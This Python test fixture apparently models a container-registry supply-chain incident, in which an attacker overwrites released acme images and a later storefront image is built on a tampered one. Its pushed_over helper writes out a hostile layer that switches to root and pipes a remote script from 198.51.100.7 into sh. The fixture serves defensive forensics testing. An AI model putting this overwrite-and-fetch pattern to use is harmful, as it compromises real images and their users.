"""The images of the story, as far as somebody kept them: what was released, and what the attacker pushed over it."""
from image_objects import Image, Step

NODE_CONFIG = {"Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "NODE_ENV=production"], "Cmd": ["node", "server.js"]}


class StoryImages:
    """base, web and api as they were released; bad web, scanner, migrate, report; storefront, which was built on the bad
    web before anybody knew."""

    def __init__(self, ago, in_window):
        """ago(days=41) and in_window(hours=3) are times as texts."""
        built = ago(days=70)
        self.base = Image("docker.io/acme/base:12", [
            Step("ADD file:made-up-root-of-debian in / ", built, {"etc/os-release": "NAME=made-up\n"}),
            Step('CMD ["bash"]', built)], built, {"Cmd": ["bash"], "Env": ["PATH=/usr/local/bin:/usr/bin:/bin"]})
        self.web = self.release("web:1.9", ago(days=41))
        self.api = self.release("api:4.2", ago(days=29))
        self.bad_web = self.pushed_over(self.web, in_window(hours=2))
        self.scanner = self.pushed_over(self.release("scanner:3.1", ago(days=200)), in_window(hours=2, minutes=4))
        self.migrate = self.pushed_over(self.release("migrate:4.2", ago(days=30)), in_window(hours=2, minutes=7))
        self.report = self.pushed_over(self.release("report:2.2", ago(days=250)), in_window(hours=2, minutes=9))
        self.storefront = self.bad_web.on_top("docker.io/acme/storefront:12.5-rc1", [
            Step("COPY shop /app/shop # buildkit", ago(days=2), {"app/shop/index.js": "// made up\n"})], ago(days=2))

    def release(self, name, built):
        app = name.partition(":")[0]
        return self.base.on_top(f"docker.io/acme/{name}", [
            Step("WORKDIR /app", built, {"app/.keep": ""}),
            Step("COPY package.json ./ # buildkit", built, {"app/package.json": '{"name":"%s"}\n' % app}),
            Step("RUN /bin/sh -c npm ci --omit=dev # buildkit", built, {"app/node_modules/.keep": app}),
            Step("COPY . . # buildkit", built, {"app/server.js": "// made up: %s\n" % app}),
            Step("USER 10001", built), Step('CMD ["node" "server.js"]', built)], built, **NODE_CONFIG, User="10001", WorkingDir="/app")

    @staticmethod
    def pushed_over(image, when):
        """The old image with one layer on top, under the old name."""
        return image.on_top(image.name, [
            Step("USER root", when),
            Step("RUN /bin/sh -c curl -fsSL http://198.51.100.7/made-up.sh | sh # buildkit", when,
                 {"usr/local/bin/.updater": "# made up; does nothing\n"})], when, User="root")

    def released(self):
        return [self.base, self.web, self.api]

    def cached(self):
        """By the machine that builds: the last layout of it was made after the window."""
        return [self.bad_web, self.scanner, self.storefront]
